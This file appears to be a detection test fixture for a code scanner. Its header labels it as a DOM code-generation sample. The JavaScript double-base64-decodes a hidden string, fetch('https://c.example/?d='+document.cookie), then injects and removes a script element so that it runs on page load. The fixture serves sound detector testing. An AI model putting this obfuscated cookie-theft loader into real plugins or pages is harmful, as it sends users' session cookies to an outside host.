// expect: category=code-generation min=80 context=plugin,package
// why: a script element's text is set to a decoded blob and attached: code generation via the DOM.
const BOOT =
  'Wm1WMFkyZ29KMmgwZEhCek9pOHZZeTVsZUdGdGNHeGxMejlrUFNjclpHOWpkVzFsYm5RdVkyOXZhMmxsS1E9PQ==';

function ready(fn) {
  if (document.readyState !== 'loading') fn();
  else document.addEventListener('DOMContentLoaded', fn);
}

ready(() => {
  const el = document.createElement('script');
  el.text = atob(atob(BOOT));
  (document.head || document.documentElement).appendChild(el);
  el.remove();
});
